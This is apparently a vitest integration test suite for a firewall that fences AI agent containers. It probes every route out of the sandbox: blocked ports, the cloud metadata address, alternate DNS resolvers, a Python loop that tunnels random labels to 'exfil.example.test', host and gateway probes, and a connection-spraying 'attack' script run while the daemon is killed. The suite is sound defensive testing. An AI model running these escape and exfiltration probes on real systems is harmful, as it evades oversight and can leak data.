import { createSocket, type Socket as DatagramSocket } from 'node:dgram';
import { once } from 'node:events';
import { createServer, type AddressInfo, type Server } from 'node:net';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import type { RunDetail } from '../../src/api/service.ts';
import type { Denial } from '../../src/core/outcome.ts';
import { useShells, type AgentShell } from '../support/agent-shell.ts';
import { dnsQueriesSeen, docker, lab, mark, observed, packetsArrived, type Mark } from '../support/lab.ts';
import { PYTHON, useSupervised } from '../support/supervised.ts';
import { until } from '../support/until.ts';

/**
 * Each road out of a real agent, tried by somebody who sits at its shell. The verdict is read at the attacked side;
 * that the road is open without a fence is proven in lab.test.ts, or by a twin here.
 */
const GRANTED_ADDRESS = '192.0.2.40';
const GRANTED_NAME = 'git.example.test';
// Asked by one test only, so that the gate has no answer to it in its cache.
const FRESH_NAME = 'docs.example.test';
const GRANTED_NAME_ADDRESS = '192.0.2.30';
const SAID_MS_MAX = 15_000;
const EGRESS = {
  allow: [`${GRANTED_ADDRESS}/32:443`, `${GRANTED_ADDRESS}/32:9999/udp`, `${GRANTED_NAME}:443`, `${FRESH_NAME}:443`],
};
const LENIENT = { budget: { denials: '100000/1m' }, on: { 'budget.denials': 'warn' } };

const supervised = useSupervised();
const shellOf = useShells(supervised, { saidMsMax: SAID_MS_MAX });
const openShell = (name: string): Promise<AgentShell> => shellOf({ name, egress: EGRESS, ...LENIENT });

const walkOut = (...words: readonly string[]): string => `sh /agent/walk-out.sh ${words.join(' ')}`;

/** What arrived anywhere, questions about the granted name aside. */
async function arrived(since: Mark): Promise<readonly string[]> {
  const packets = await packetsArrived({ since });
  return packets
    .filter((packet) => packet.destination !== lab.resolver)
    .map((packet) => `${packet.protocol} ${packet.destination}:${packet.destinationPort}`);
}

test('the granted roads work: an address with its port, its UDP port, and a name', async () => {
  const shell = await openShell('granted');
  const since = await mark();
  await shell.type(walkOut('https', GRANTED_ADDRESS));
  await shell.type(walkOut('udp', GRANTED_ADDRESS, '9999'));
  expect(await shell.type(`curl -sS --cacert /agent/lab-ca.crt https://${GRANTED_NAME}/`)).toContain(GRANTED_NAME);
  const seen = await observed({ since });
  expect(new Set(seen.map((each) => `${each.localAddress}:${each.localPort}/${each.protocol}`))).toEqual(
    new Set([`${GRANTED_ADDRESS}:443/tcp`, `${GRANTED_ADDRESS}:9999/udp`, `${GRANTED_NAME_ADDRESS}:443/tcp`]),
  );
  const questions = await dnsQueriesSeen({ since });
  expect(new Set(questions.map((query) => `${query.name} ${query.resolver}`))).toEqual(
    new Set([`${GRANTED_NAME} ${lab.resolver}`]),
  );
});

test('every other road is closed, and the agent hears and the operator reads which', { timeout: 120_000 }, async () => {
  const shell = await openShell('denied');
  const roads: readonly (readonly [words: readonly string[], destination: string])[] = [
    [['https', '203.0.113.66'], '203.0.113.66:443/tcp'],
    [['http', '203.0.113.66'], '203.0.113.66:80/tcp'],
    // The address of a granted name is nothing until the name was asked for.
    [['https', GRANTED_NAME_ADDRESS], `${GRANTED_NAME_ADDRESS}:443/tcp`],
    [['tcp', GRANTED_ADDRESS, '8443'], `${GRANTED_ADDRESS}:8443/tcp`],
    [['tcp', GRANTED_ADDRESS, '9999'], `${GRANTED_ADDRESS}:9999/tcp`],
    [['udp', GRANTED_ADDRESS, '443'], `${GRANTED_ADDRESS}:443/udp`],
    [['ping', GRANTED_ADDRESS], `${GRANTED_ADDRESS}/icmp`],
    [['ping', '203.0.113.66'], '203.0.113.66/icmp'],
    [['tcp', '203.0.113.10', '22'], '203.0.113.10:22/tcp'],
    [['tcp', '198.51.100.20', '3333'], '198.51.100.20:3333/tcp'],
    [['tcp', '10.99.0.5', '5432'], '10.99.0.5:5432/tcp'],
    [['http', '169.254.169.254'], '169.254.169.254:80/tcp'],
    [['tcp', lab.otherResolver, '853'], `${lab.otherResolver}:853/tcp`],
  ];
  const since = await mark();
  for (const [words] of roads) expect(await shell.type(walkOut(...words))).toContain(`walk-out ${words[0]} `);
  expect(await arrived(since)).toEqual([]);
  expect(await observed({ since })).toEqual([]);
  const told = await deniedRoads(shell.run.runId);
  expect(roads.map(([, destination]) => destination).filter((destination) => !told.has(destination))).toEqual([]);
});

test('the first instruction of an agent is held already', async () => {
  const since = await mark();
  const dial = (address: string): readonly string[] => ['nc', '-n', '-v', '-w', '2', '-z', address, '443'];
  const denied = await supervised.run({ name: 'first', command: dial('203.0.113.66'), egress: EGRESS, ...LENIENT });
  expect(denied).toMatchObject({ exitCode: 1, output: expect.stringContaining('Connection refused') });
  expect(await deniedRoads(denied.outcome.runId)).toContain('203.0.113.66:443/tcp');
  expect(await arrived(since)).toEqual([]);
  const granted = await supervised.run({ name: 'first', command: dial(GRANTED_ADDRESS), egress: EGRESS, ...LENIENT });
  expect(granted.exitCode).toBe(0);
  expect(new Set(await arrived(since))).toEqual(new Set([`tcp ${GRANTED_ADDRESS}:443`]));
});

test('no name that is not granted is asked outside, by whatever resolver', async () => {
  const shell = await openShell('names');
  const since = await mark();
  const answer = await shell.type(`dig +tries=1 +time=2 @127.0.0.11 unlisted.example.test A`);
  expect(answer).toContain('status: REFUSED');
  await shell.type(walkOut('dig', lab.otherResolver, 'unlisted.example.test'));
  await shell.type(`dig +tcp +tries=1 +time=2 @${lab.otherResolver} unlisted.example.test A`);
  for (const type of ['TXT', 'NULL', 'ANY', 'MX', 'SRV', 'HTTPS'])
    await shell.type(`dig +tries=1 +time=2 ${FRESH_NAME} ${type}`);
  await shell.type(`echo 'these are no DNS bytes' | nc -n -u -w 1 ${lab.otherResolver} 53`);
  const labels = `
import os, socket
socket = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for number in range(200):
    label = os.urandom(20).hex().encode()
    socket.sendto(os.urandom(2) + bytes([1, 0, 0, 1, 0, 0, 0, 0, 0, 0, 40]) + label + b"\\x05exfil\\x07example\\x04test\\x00\\x00\\x01\\x00\\x01", ("127.0.0.11", 53))
print("sent", flush=True)`;
  expect(await shell.type(`python3 -c '${labels}'`)).toContain('sent');
  expect(await dnsQueriesSeen({ since })).toEqual([]);
  expect(await arrived(since)).toEqual([]);
  // The twin: the granted name is asked, with a question that the gate made itself.
  await shell.type(`dig +tries=2 +time=3 ${FRESH_NAME} A`);
  expect(await dnsQueriesSeen({ since })).toMatchObject([{ name: FRESH_NAME, resolver: lab.resolver }]);
});

test('there is no IPv6', async () => {
  const shell = await openShell('ipv6');
  const since = await mark();
  expect(await shell.type('cat /proc/net/if_inet6 | grep -v " lo$"; echo looked')).toBe('looked\n');
  expect(await shell.type('curl -sS --max-time 3 http://[2001:db8:ff00::66]/')).toContain('curl: ');
  await shell.type('ping -6 -c 1 -W 1 ff02::1%eth0');
  expect(await arrived(since)).toEqual([]);
});

describe('the host', () => {
  let tcp: Server;
  let udp: DatagramSocket;
  const reached: string[] = [];
  let port = 0;

  beforeAll(async () => {
    tcp = createServer((socket) => {
      reached.push(`tcp from ${socket.remoteAddress}`);
      socket.end('taken\n');
    }).listen({ host: '0.0.0.0', port: 0 });
    await once(tcp, 'listening');
    port = (tcp.address() as AddressInfo).port;
    udp = createSocket('udp4', (_, peer) => void reached.push(`udp from ${peer.address}`)).bind(port);
    await once(udp, 'listening');
  });
  afterAll(() => {
    tcp.close();
    udp.close();
  });

  test('is not reached on any of its addresses, though it listens', async () => {
    const unfenced = ['run', '--rm', '--user', '10001', 'ringfence/agent-shell:local', 'sh', '-c'];
    await docker(...unfenced, `for kind in tcp udp; do sh /agent/walk-out.sh $kind ${lab.hostAddress} ${port}; done`);
    expect(reached.map((each) => each.slice(0, 3)).toSorted()).toEqual(['tcp', 'udp']);
    reached.length = 0;

    const shell = await openShell('host');
    const bridge = await docker('network', 'inspect', 'bridge', '--format', '{{(index .IPAM.Config 0).Gateway}}');
    for (const address of [gatewayOf(shell.run), lab.hostAddress, bridge])
      for (const kind of ['tcp', 'udp', 'ping']) {
        const answer = await shell.type(walkOut(kind, address, String(port)));
        expect(answer).toContain(`walk-out ${kind} ${address} ${port} begins`);
        expect(answer).not.toMatch(/taken|bytes from/);
      }
    expect(reached).toEqual([]);
  });
});

test('two agents do not reach each other', async () => {
  const [left, right] = [await openShell('left'), await openShell('right')];
  const listen = `socat TCP-LISTEN:8000,fork,reuseaddr SYSTEM:'echo reached >&2' & sleep 0.5`;
  for (const shell of [left, right]) {
    await shell.type(listen);
    // Each is there to be reached: it reaches itself.
    await shell.type(walkOut('tcp', shell.run.address ?? '', '8000'));
  }
  await left.type(walkOut('tcp', right.run.address ?? '', '8000'));
  await left.type(walkOut('ping', right.run.address ?? ''));
  await right.type(walkOut('tcp', left.run.address ?? '', '8000'));
  expect([left, right].map((shell) => shell.said().match(/^reached$/gm))).toEqual([['reached'], ['reached']]);
  expect(left.said()).not.toContain('bytes from');
  expect(await deniedRoads(left.run.runId)).toContain(`${right.run.address}:8000/tcp`);
});

test('the rules hold while the daemon is dead', async () => {
  const attack = `
import itertools, socket, time
for number in itertools.count():
    for host, port in [("203.0.113.66", 443), ("${GRANTED_ADDRESS}", 8443), ("10.99.0.5", 22), ("${GRANTED_ADDRESS}", 443)]:
        try: socket.create_connection((host, port), timeout=0.2).close()
        except OSError: pass
    try: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("203.0.113.66", 9999))
    except OSError: pass
    print("attempt", number, flush=True)
    time.sleep(0.05)
`;
  const run = await supervised.launch({ name: 'gap', command: PYTHON(attack), egress: EGRESS, ...LENIENT });
  const { containerId } = await supervised.running(run.runId);
  const since = await mark();
  await supervised.daemon.crash();
  const inTheGap = await mark();
  // The granted road stays open, and tells how often the others were tried.
  await until(
    'five more attempts with nobody there',
    async () => (await observed({ since: inTheGap })).filter((seen) => seen.event === 'open').length >= 5,
    { deadlineMs: SAID_MS_MAX },
  );
  expect(await docker('logs', '--tail', '1', containerId ?? '')).toMatch(/^attempt \d+$/);
  expect(new Set(await arrived(since))).toEqual(new Set([`tcp ${GRANTED_ADDRESS}:443`]));
  await supervised.daemon.start();
  // Whether the new daemon goes on with it or has ended it is not the point here.
  await supervised.daemon.cli(['kill', run.runId]);
});

/** Where the record says that a run was refused: `address:port/protocol`, or `address/icmp`. */
async function deniedRoads(runId: string): Promise<ReadonlySet<string>> {
  const records = (await supervised.records(runId)).filter((record) => record.kind === 'egress.denied');
  const denials = records.map((record) => record['denial'] as Denial);
  return new Set(
    denials.map(({ destination, port, protocol }) => `${destination}${port === null ? '' : `:${port}`}/${protocol}`),
  );
}

/** A run has a /30 of its own; the host is the other address of it. */
function gatewayOf(run: RunDetail): string {
  const octets = (run.address ?? '').split('.').map(Number);
  return [...octets.slice(0, 3), (octets[3] ?? 0) - 1].join('.');
}
